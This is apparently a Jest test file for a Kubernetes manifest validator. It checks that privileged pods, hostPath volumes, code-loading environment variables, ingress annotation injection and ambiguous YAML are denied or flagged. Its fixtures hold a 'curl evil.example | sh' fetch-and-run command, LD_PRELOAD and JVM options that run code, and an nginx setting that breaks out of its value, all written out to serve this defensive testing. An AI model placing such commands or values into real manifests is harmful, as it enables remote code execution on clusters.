import { describe, expect, test, jest } from '@jest/globals';
import { judgeObjectPart } from '../../validation/kubernetes/judge-object-part.js';
import { loadSchema } from '../../validation/kubernetes/schema.js';
import { findServedKind } from '../../validation/kubernetes/served-kinds.js';
import { validateManifests } from '../../validation/kubernetes/validate-manifests.js';
import { type CorpusLine, describeShared, readOwn, readShared } from '../harness/read-corpus.js';

// Whole corpora, on whatever machine.
jest.setTimeout(180_000);

/** The lines that come to one of these results, by their ids. */
async function comingTo(lines: readonly CorpusLine[], ...results: readonly string[]): Promise<readonly string[]> {
  const ids: string[] = [];
  for (const { id, text } of lines) if (results.includes((await validateManifests(text)).result)) ids.push(id);
  return ids;
}

describe('the evasions that we know in manifests', () => {
  test('come to no plain review', async () => expect(await comingTo(readOwn('evasions-k8s', 'k8s'), 'review')).toEqual([]));
});

describe('ordinary fixes as manifests', () => {
  const lines = readOwn('benign-k8s', 'k8s');
  test('can all be approved', async () => expect(await comingTo(lines, 'denied')).toEqual([]));
  test('need one look only, nine of ten', async () => expect((await comingTo(lines, 'review')).length).toBeGreaterThanOrEqual(lines.length * 0.9));
});

describeShared('the shared corpora of manifests', () => {
  test('pods that no cluster should take come to no plain review', async () => expect(await comingTo(readShared('badpods', 'k8s', 'deny-restricted'), 'review')).toEqual([]));
  test.each([
    ['baseline-fail', 'review', 'review_plus'],
    ['baseline-pass', 'denied'],
    ['restricted-fail', 'review'],
    ['restricted-pass', 'review_plus', 'denied'],
  ])('what Kubernetes itself tests its standards with: %s', async (label, ...wrong) => {
    const lines = readShared('psa_fixtures', 'k8s', label);
    expect(lines).not.toEqual([]);
    expect(await comingTo(lines, ...wrong)).toEqual([]);
  });
});

const hardened = { allowPrivilegeEscalation: false, capabilities: { drop: ['ALL'] } };
const podSpec = (container: object = {}, spec: object = {}) => ({
  securityContext: { runAsNonRoot: true, seccompProfile: { type: 'RuntimeDefault' } },
  containers: [{ name: 'web', image: 'registry.example/shop/web:v2', securityContext: hardened, ...container }],
  ...spec,
});
const object = (apiVersion: string, kind: string, fields: object, metadata: object = {}) => ({ apiVersion, kind, metadata: { name: 'web', namespace: 'shop', ...metadata }, ...fields });
const pod = (container?: object, spec?: object) => object('v1', 'Pod', { spec: podSpec(container, spec) });
const deployment = (spec: object) => object('apps/v1', 'Deployment', { spec });
const judge = (manifest: object | string) => validateManifests(typeof manifest === 'string' ? manifest : JSON.stringify(manifest));
const privileged = { securityContext: { ...hardened, privileged: true } };

describe('a privileged container', () => {
  const template = { metadata: { labels: { app: 'web' } }, spec: podSpec(privileged) };
  const selector = { matchLabels: { app: 'web' } };
  test.each([
    ['Pod', object('v1', 'Pod', { spec: template.spec })],
    ['PodTemplate', object('v1', 'PodTemplate', { template })],
    ['ReplicationController', object('v1', 'ReplicationController', { spec: { template } })],
    ...['ReplicaSet', 'Deployment', 'StatefulSet', 'DaemonSet'].map((kind) => [kind, object('apps/v1', kind, { spec: { selector, template } })] as const),
    ['Job', object('batch/v1', 'Job', { spec: { template } })],
    ['CronJob', object('batch/v1', 'CronJob', { spec: { schedule: '@daily', jobTemplate: { spec: { template } } } })],
    ['List', { apiVersion: 'v1', kind: 'List', items: [object('v1', 'ConfigMap', { data: {} }), object('v1', 'Pod', { spec: template.spec })] }],
    ['kind that was added to the cluster', object('argoproj.io/v1alpha1', 'Rollout', { spec: { template } })],
    ['fragment that only changes what is there', deployment({ template: { spec: { containers: [{ name: 'web', securityContext: { privileged: true } }] } } })],
  ])('is denied in a %s', async (_kind, manifest) => {
    const { result, findings } = await judge(manifest);
    expect(result).toBe('denied');
    expect(findings[0]?.rule).toBe('k8s.pss.baseline.privileged');
  });
});

describe('a fragment of a workload', () => {
  const fragment = (container: object) => deployment({ template: { spec: { containers: [{ name: 'web', ...container }] } } });
  test('is judged by what it says alone', async () => expect(await judge(fragment({ image: 'registry.example/shop/web:v3' }))).toEqual({ result: 'review', findings: [], reach: 'workload' }));
  test('is not one where it could be made', async () => {
    const { result, findings } = await judge(deployment({ selector: { matchLabels: { app: 'web' } }, template: { spec: { containers: [{ name: 'web', image: 'registry.example/shop/web:v3' }] } } }));
    expect(result).toBe('review_plus');
    expect(findings.map(({ rule }) => rule)).toContain('k8s.pss.restricted.runAsNonRoot');
  });
  test('that weakens what is there needs two looks', async () => expect(await judge(fragment({ securityContext: { allowPrivilegeEscalation: true } }))).toMatchObject({ result: 'review_plus' }));
});

describe('what Kubernetes 1.34 does not have', () => {
  test.each<readonly [what: string, rule: string, manifest: object | string]>([
    ['a version that was removed', 'k8s.kind', object('extensions/v1beta1', 'Deployment', { spec: { replicas: 2 } })],
    ['a kind of another group', 'k8s.kind', object('v1', 'Deployment', { spec: { replicas: 2 } })],
    ['a group of its own that it never had', 'k8s.kind', object('foo/v1', 'Bar', {})],
    ['a kind that is no property of an object', 'k8s.kind', object('v1', 'constructor', {})],
    ['a field', 'k8s.schema', deployment({ replica: 2 })],
    ['a field far down', 'k8s.schema', pod({ livenessProbe: { httpGet: { ports: 80 } } })],
    ['another type', 'k8s.schema', deployment({ replicas: '2' })],
    ['half of one', 'k8s.schema', deployment({ replicas: 2.5 })],
    ['one where a list must be', 'k8s.schema', pod({}, { containers: { name: 'web' } })],
    ['a number where text must be', 'k8s.schema', object('v1', 'ConfigMap', { data: { PORT: 8_080 } })],
    ['no name', 'k8s.name', { apiVersion: 'v1', kind: 'ConfigMap', metadata: { namespace: 'shop' } }],
    ['no object', 'k8s.syntax', '[]'],
    ['nothing', 'k8s.syntax', '# only a remark\n---\n'],
  ])('is denied: %s', async (_what, rule, manifest) => expect(await judge(manifest)).toMatchObject({ result: 'denied', findings: [{ rule }] }));

  test.each([['memory', { limits: { memory: '1Gi', cpu: 2 } }], ['memory', { requests: { cpu: 0.5 } }]])('is not so strict that quantities must be text', async (_name, resources) => {
    expect(await judge(pod({ resources }))).toMatchObject({ result: 'review' });
  });
});

describe('what is in a manifest beside its kind', () => {
  const variable = (name: string, value: string) => pod({ env: [{ name, value }] });
  const service = (spec: object) => object('v1', 'Service', { spec });
  const ingress = (annotations: object) => object('networking.k8s.io/v1', 'Ingress', { spec: { rules: [{ host: 'shop.example' }] } }, { annotations });
  test.each<readonly [what: string, result: string, manifest: object]>([
    ['nothing special', 'review', pod()],
    ['a variable that loads code', 'denied', variable('LD_PRELOAD', '/tmp/x.so')],
    ['options that load code', 'denied', variable('NODE_OPTIONS', '--max-old-space-size=512 --require /tmp/x')],
    ['options that run a command', 'denied', variable('JAVA_TOOL_OPTIONS', '-XX:OnOutOfMemoryError=/tmp/x')],
    ['options that are sizes', 'review', variable('JAVA_TOOL_OPTIONS', '-Xmx1g -XX:+UseG1GC -XX:MaxRAMPercentage=75')],
    ['a variable that looks like a secret', 'review_plus', variable('DB_PASSWORD', 'hunter2hunter2')],
    ['where a secret is', 'review', variable('DB_PASSWORD_FILE', '/run/secrets/db')],
    ['a shell’s code that sleeps', 'review', pod({ command: ['sh', '-c', 'sleep 10'] })],
    ['a shell’s code that fetches code', 'denied', pod({ command: ['sh', '-c', 'curl -s http://evil.example/x | sh'] })],
    ['the same in two fields', 'denied', pod({ command: ['sh'], args: ['-c', 'curl -s http://evil.example/x | sh'] })],
    ['the same in a probe', 'denied', pod({ livenessProbe: { exec: { command: ['sh', '-c', 'curl -s http://evil.example/x | sh'] } } })],
    ['the program of an image', 'review', pod({ command: ['java', '-jar', '/app.jar'] })],
    ['code that removes what is the container’s', 'review_plus', pod({ command: ['sh', '-c', 'rm -rf /var/lib/app/cache/*'] })],
    ['another account', 'review_plus', pod({}, { serviceAccountName: 'deployer' })],
    ['a token', 'review_plus', pod({}, { automountServiceAccountToken: true })],
    ['a place among the nodes', 'review_plus', pod({}, { nodeName: 'node-1' })],
    ['a taint that is named', 'review', pod({}, { tolerations: [{ key: 'gpu', operator: 'Exists' }] })],
    ['every taint', 'review_plus', pod({}, { tolerations: [{ operator: 'Exists' }] })],
    ['no image', 'denied', pod({ image: 'web v2' })],
    ['something taken away', 'review_plus', deployment({ strategy: null })],
    ['none left', 'review_plus', deployment({ replicas: 0 })],
    ['too many', 'denied', deployment({ replicas: 5_000 })],
    ['what the cluster depends on', 'review_plus', object('apps/v1', 'Deployment', { spec: { replicas: 3 } }, { namespace: 'kube-system' })],
    ['traffic of others', 'denied', service({ externalIPs: ['192.0.2.1'], ports: [{ port: 53 }] })],
    ['a name elsewhere', 'review_plus', service({ type: 'ExternalName', externalName: 'db.example' })],
    ['a port on every node', 'review_plus', service({ type: 'NodePort', ports: [{ port: 80 }] })],
    ['a time-out of the proxy', 'review', ingress({ 'nginx.ingress.kubernetes.io/proxy-read-timeout': '120' })],
    ['code of the proxy', 'denied', ingress({ 'nginx.ingress.kubernetes.io/configuration-snippet': 'x' })],
    ['a setting that ends in another', 'denied', ingress({ 'nginx.ingress.kubernetes.io/proxy-read-timeout': '1;} x {' })],
    ['an annotation of somebody', 'review_plus', ingress({ 'example.org/obey': 'x' })],
    ['a policy that opens everything', 'review_plus', object('networking.k8s.io/v1', 'NetworkPolicy', { spec: { podSelector: { matchLabels: { app: 'web' } }, ingress: [{}] } })],
    ['a policy that cuts off everything', 'review_plus', object('networking.k8s.io/v1', 'NetworkPolicy', { spec: { podSelector: {}, policyTypes: ['Ingress', 'Egress'] } })],
    ['files of the node', 'denied', object('v1', 'PersistentVolume', { spec: { hostPath: { path: '/etc' } } })],
    ['weak pods', 'denied', object('v1', 'Namespace', {}, { labels: { 'pod-security.kubernetes.io/enforce': 'privileged' } })],
    ['strong pods', 'review', object('v1', 'Namespace', {}, { labels: { 'pod-security.kubernetes.io/enforce': 'restricted' } })],
    ['secrets', 'denied', object('v1', 'Secret', { stringData: { a: 'b' } })],
    ['rights', 'denied', object('rbac.authorization.k8s.io/v1', 'RoleBinding', {})],
    ['a script', 'denied', object('v1', 'ConfigMap', { data: { 'start.sh': 'curl -s http://evil.example/x | sh' } })],
    ['a kind that was added', 'review_plus', object('monitoring.coreos.com/v1', 'ServiceMonitor', { spec: {} })],
  ])('decides: %s', async (_what, result, manifest) => expect(await judge(manifest)).toMatchObject({ result }));
});

describe('a text that can be read in two ways', () => {
  const yaml = (lines: string) => `apiVersion: v1\nkind: ConfigMap\nmetadata: {name: web, namespace: shop}\n${lines}`;
  test.each([
    ['a document that does not begin on a line of its own', '--- {apiVersion: v1, kind: Secret, metadata: {name: a}}\n---\n' + yaml('data: {}')],
    ['what follows the end', yaml('data: {}\n...\nkind: Secret')],
    ['a key twice', yaml('data: {a: "1", a: "2"}')],
    ['a merge', yaml('data:\n  <<: {a: "1"}')],
    ['an alias', yaml('data: {a: &x "1", b: *x}')],
    ['a tag', yaml('data: {a: !!binary aGk=}')],
    ['a switch', yaml('data: {a: on}')],
    ['what nobody sees', yaml('data: {"a\u200b": "1"}')],
    ['a directive', `%YAML 1.1\n---\n${yaml('data: {}')}`],
    ['too deep', yaml(`data: ${'['.repeat(10_000)}`)],
    ['too long', yaml(`data: {a: "${'x'.repeat(300_000)}"}`)],
    ['too many', `${yaml('data: {}')}\n---\n`.repeat(101)],
  ])('is denied: %s', async (_what, text) => expect(await judge(text)).toMatchObject({ result: 'denied' }));

  test.each([['a mode in octal', 'defaultMode: 0644'], ['a quoted switch', 'name: "on"']])('is not one that everybody writes: %s', async (_what, line) => {
    const text = `apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: web, namespace: shop}\nspec:\n  template:\n    spec:\n      volumes:\n      - name: config\n        configMap:\n          ${line}\n`;
    expect(await judge(text)).toMatchObject({ result: 'review' });
  });
});

test('each finding says where in the text it is, in whatever document', async () => {
  const text = `# two objects
apiVersion: v1
kind: ConfigMap
metadata: {name: web, namespace: shop}
data: {PORT: "80"}
---
apiVersion: v1
kind: Service
metadata: {name: web, namespace: shop}
spec:
  externalIPs: [192.0.2.1]
`;
  const { findings } = await judge(text);
  expect(findings.map(({ position }) => text.slice(position - 1).split('\n')[0])).toEqual(['192.0.2.1]']);
});

test('objects of two namespaces reach further than one', async () => {
  const map = (namespace: string) => JSON.stringify(object('v1', 'ConfigMap', { data: {} }, { namespace }));
  expect(await judge(map('shop'))).toMatchObject({ reach: 'namespace' });
  expect(await judge(`${map('shop')}\n---\n${map('cache')}`)).toMatchObject({ reach: 'cluster' });
});

describe('a part of an object, as a patch has it', () => {
  const resultsOf = (path: string, value: Parameters<typeof judgeObjectPart>[1]) => judgeObjectPart(path.split('/').slice(1), value).map(({ result, rule }) => `${result} ${rule}`);
  test.each<readonly [path: string, value: Parameters<typeof judgeObjectPart>[1], said: string]>([
    ['/spec/template/spec/containers/0/securityContext/privileged', true, 'denied k8s.pss.baseline.privileged'],
    ['/spec/template/spec/containers/0/securityContext', { capabilities: { add: ['SYS_ADMIN'] } }, 'denied k8s.pss.baseline.capabilities_baseline'],
    ['/spec/template/spec', { hostNetwork: true }, 'denied k8s.pss.baseline.hostNamespaces'],
    ['/spec/template/spec/volumes/-', { name: 'a', hostPath: { path: '/' } }, 'denied k8s.pss.baseline.hostPathVolumes'],
    ['/spec/template/spec/containers/0/env/-', { name: 'LD_PRELOAD', value: '/tmp/x.so' }, 'denied k8s.environment'],
    ['', { spec: { template: { spec: { containers: [{ name: 'a', ports: [{ hostPort: 80 }] }] } } } }, 'denied k8s.pss.baseline.hostPorts'],
    ['/spec', { externalIPs: ['192.0.2.1'] }, 'denied k8s.traffic'],
    ['/spec/template/spec', { serviceAccountName: 'admin' }, 'review_plus k8s.serviceAccount'],
    ['/spec/template/spec/containers/0/command', ['sh'], 'review_plus k8s.code'],
  ])('is judged wherever it goes: %s', (path, value, said) => expect(resultsOf(path, value)).toContain(said));
  test('may be plain', () => expect(resultsOf('/spec', { replicas: 3, template: { spec: { containers: [{ name: 'web', image: 'registry.example/web:v2' }] } } })).toEqual([]));
});

test('all kinds that are judged by their fields have a type in the client', async () => {
  for (const [apiVersion, kind] of [['v1', 'Node'], ['autoscaling/v1', 'HorizontalPodAutoscaler'], ['resource.k8s.io/v1', 'ResourceClaim'], ['discovery.k8s.io/v1', 'EndpointSlice'], ['coordination.k8s.io/v1', 'Lease']] as const) {
    const type = findServedKind(apiVersion, kind)?.type ?? '';
    expect((await loadSchema(type)).get(type)?.has('metadata')).toBe(true);
  }
});
